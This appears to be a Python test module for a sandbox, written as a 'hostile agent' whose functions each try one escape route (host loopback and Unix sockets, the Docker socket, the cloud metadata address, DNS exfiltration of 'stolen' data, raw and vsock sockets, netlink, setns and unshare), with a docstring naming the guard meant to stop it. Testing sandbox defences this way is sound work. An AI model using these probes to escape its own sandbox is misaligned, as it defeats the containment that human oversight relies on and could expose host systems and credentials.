"""A hostile agent that wants out: the host's loopback, its sockets, the metadata service, DNS, the world."""

import ctypes
import errno
import os
import socket
import struct

from tests.threats.sandbox.agents.common import FACTS, libc, syscall

SECONDS = 3
MSG_PROBE = 0x10
"""The kernel does all but send."""


def reached(family, kind, address, word=b"?"):
    """Whatever a peer answers."""
    with socket.socket(family, kind) as peer:
        peer.settimeout(SECONDS)
        peer.connect(address)
        peer.send(word)
        return peer.recv(64)


def routed(family, address):
    """The address from which the kernel would send, if it knows a way; nothing is sent."""
    with socket.socket(family, socket.SOCK_DGRAM) as peer:
        peer.connect(address)
        return peer.getsockname()[0]


def loopback_of_the_host():
    """Guard: a namespace of networks, with a loopback of its own."""
    return reached(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", FACTS["tcp"]))


def loopback_of_the_host_by_name():
    """Guard: a namespace of networks."""
    return reached(socket.AF_INET, socket.SOCK_STREAM, ("localhost", FACTS["tcp"]))


def loopback_of_the_host_by_udp():
    """Guard: a namespace of networks."""
    return reached(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", FACTS["udp"]))


def loopback_of_the_host_by_another_address():
    """Guard: a namespace of networks; all of 127/8 is the sandbox's own."""
    return reached(socket.AF_INET, socket.SOCK_STREAM, ("127.3.2.1", FACTS["tcp"]))


def loopback_of_the_host_through_ipv6():
    """Guard: a namespace of networks."""
    return reached(socket.AF_INET6, socket.SOCK_STREAM, ("::ffff:127.0.0.1", FACTS["tcp"]))


def abstract_socket_of_the_host():
    """Guard: abstract Unix sockets belong to the namespace of networks."""
    return reached(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + FACTS["abstract"])


def unix_socket_of_the_host_by_path():
    """Guard: only what is named is mounted."""
    return reached(socket.AF_UNIX, socket.SOCK_STREAM, FACTS["path"])


def every_usual_socket_of_the_host():
    """Guard: only what is named is mounted (Docker, systemd, D-Bus, ssh-agent, X11)."""
    places = (
        "/var/run/docker.sock",
        "/run/docker.sock",
        "/run/systemd/private",
        "/run/dbus/system_bus_socket",
        "/tmp/.X11-unix",
    )
    return [path for path in places if os.path.exists(path)] + [v for k, v in os.environ.items() if k.endswith("_SOCK")]


def metadata_service():
    """Guard: no interface but the sandbox's own loopback."""
    return routed(socket.AF_INET, ("169.254.169.254", 80))


def public_address():
    """Guard: no interface but the sandbox's own loopback. (For documentation: RFC 5737, RFC 3849.)"""
    return routed(socket.AF_INET, ("198.51.100.1", 80))


def public_address_through_ipv6():
    """Guard: no interface but the sandbox's own loopback."""
    return routed(socket.AF_INET6, ("2001:db8::1", 80))


def sending_without_connecting():
    """Guard: no route."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
        peer.sendto(b"stolen", MSG_PROBE, ("198.51.100.1", 53))
        return True


def broadcasting():
    """Guard: no interface that could."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
        peer.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        peer.sendto(b"stolen", MSG_PROBE, ("255.255.255.255", 9))
        return True


def name_service():
    """Guard: no resolver is configured and none can be reached."""
    return socket.getaddrinfo("example.com", 80)


def name_of_the_host_as_an_address():
    """Guard: /etc/hosts is made up, and no resolver can be reached."""
    return socket.getaddrinfo(FACTS["host"], 80)[0][4][0]


def stealing_through_a_name_lookup():
    """Guard: no route to any resolver."""
    question = struct.pack(">HHHHHH", 1, 256, 1, 0, 0, 0) + b"\6stolen\7example\3com\0" + struct.pack(">HH", 1, 1)
    for resolver in FACTS["resolvers"]:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
            peer.sendto(question, MSG_PROBE, (resolver, 53))
    return FACTS["resolvers"]


def interfaces_of_the_host():
    """Guard: a namespace of networks."""
    return [name for _index, name in socket.if_nameindex() if name != "lo"]


def raw_packets():
    """Guard: seccomp allows no packet sockets; no capability either."""
    return socket.socket(socket.AF_PACKET, socket.SOCK_RAW)


def raw_ip():
    """Guard: no capability."""
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)


def hypervisor():
    """Guard: seccomp allows no vsock, which no namespace of networks holds back."""
    return socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)


def kernel_crypto():
    """Guard: seccomp allows no AF_ALG, a large kernel surface."""
    return socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET)


def kernel_crypto_as_a_pair():
    """Guard: seccomp looks at socketpair too. (The kernel's code for the family was reached if it says that it has none.)"""
    try:
        return socket.socketpair(socket.AF_ALG, socket.SOCK_SEQPACKET)
    except OSError as error:
        if error.errno == errno.EOPNOTSUPP:
            return str(error)
        raise


def bluetooth():
    """Guard: seccomp."""
    return socket.socket(31, socket.SOCK_RAW, 1)


def a_new_address():
    """Guard: no capability in the sandbox's namespace of networks. (RTM_NEWADDR: 10.1.2.3 for the loopback.)"""
    link = struct.pack("=BBBBi", 2, 32, 0, 0, 1) + struct.pack("=HH4s", 8, 2, bytes([10, 1, 2, 3]))
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as peer:
        peer.bind((0, 0))
        peer.send(struct.pack("=IHHII", 16 + len(link), 20, 0x605, 1, 0) + link)
        answer = peer.recv(4096)
        number = -struct.unpack_from("=i", answer, 16)[0]
    if number:
        raise OSError(number, os.strerror(number))
    return True


def network_of_pid_1():
    """Guard: seccomp refuses setns; pid 1's namespaces cannot be opened."""
    return syscall("setns", os.open("/proc/1/ns/net", os.O_RDONLY), 0) == 0


def network_of_one_s_own_with_capabilities():
    """Guard: seccomp refuses unshare, and no further user namespace can be made."""
    return syscall("unshare", 0x10000000 | 0x40000000) == 0


def shared_memory_of_the_host():
    """Guard: a namespace of System V IPC."""
    number = libc.shmget(FACTS["segment"], 0, 0)
    if number < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return True


def message_queue_of_the_host():
    """Guard: a namespace of POSIX message queues."""
    number = libc.mq_open(FACTS["queue"].encode(), os.O_RDONLY | os.O_NONBLOCK)
    if number < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return True
